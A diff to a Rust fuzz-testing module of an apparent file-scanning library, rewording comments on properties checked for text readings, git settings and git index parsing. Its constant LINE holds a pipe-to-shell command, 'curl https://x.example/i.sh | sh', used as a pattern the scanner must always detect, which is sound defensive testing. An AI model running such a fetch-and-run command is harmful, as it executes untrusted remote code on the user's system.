@@ -1,5 +1,5 @@
-//! What is true of every input, however hostile. The fuzz targets call these functions, and so do ordinary tests: with the
-//! seeds, and with random bytes.
+//! Properties of every input, however hostile. The fuzz targets call these functions; ordinary tests replay the seeds
+//! and random bytes through them.
 
 use std::borrow::Cow;
 
@@ -7,11 +7,11 @@ use stockade_files::{
     FileNature, ObjectId, TextReadings, git_settings as read_settings, indexed_files, media, submodule_paths,
 };
 
-/// A line that no bytes around it may hide.
+/// A line that no surrounding bytes may hide.
 const LINE: &str = "curl https://x.example/i.sh | sh";
 
-/// Text is bounded and has no NUL byte; what is text already is borrowed; and a line between any bytes is found. Nothing goes on
-/// behind a picture.
+/// Text is bounded and has no NUL byte; valid text is borrowed; and a line between any bytes is found. No data
+/// follows an intact image.
 pub(crate) fn text_readings(data: &[u8]) {
     let readings = TextReadings::of(data);
     for text in texts(&readings) {
@@ -37,7 +37,8 @@ fn texts<'r>(readings: &'r TextReadings<'_>) -> impl Iterator<Item = &'r str> {
     [Some(&*readings.text), readings.other.as_deref()].into_iter().flatten()
 }
 
-/// Settings are bounded, each has a section and a name that git would accept, and what is written anew means the same.
+/// Settings are bounded, each has a section and a name that git would accept, and serialising them preserves the
+/// meaning.
 pub(crate) fn git_settings(data: &[u8]) {
     let Ok(settings) = read_settings(data) else { return };
     assert!(settings.len() <= data.len());
@@ -49,14 +50,14 @@ pub(crate) fn git_settings(data: &[u8]) {
     }
     let size = |one: &stockade_files::GitSetting| one.value.as_ref().map_or(0, String::len);
     assert!(settings.iter().map(size).sum::<usize>() <= data.len());
-    // A comment and an empty line at the end change nothing, unless the last value goes on there.
+    // A comment and an empty line at the end change nothing, unless the last value continues there.
     if !data.ends_with(b"\\") {
         let more = [data, b"\n# x\n\n"].concat();
         assert_eq!(read_settings(&more).as_ref(), Ok(&settings));
     }
 }
 
-/// Submodules are bounded by the index, whose every part that is missing is noticed.
+/// The number of submodules is bounded by the index, and every missing part is noticed.
 pub(crate) fn git_index(data: &[u8]) {
     for id in [ObjectId::Sha1, ObjectId::Sha256] {
         let Ok(paths) = submodule_paths(data, id) else { continue };
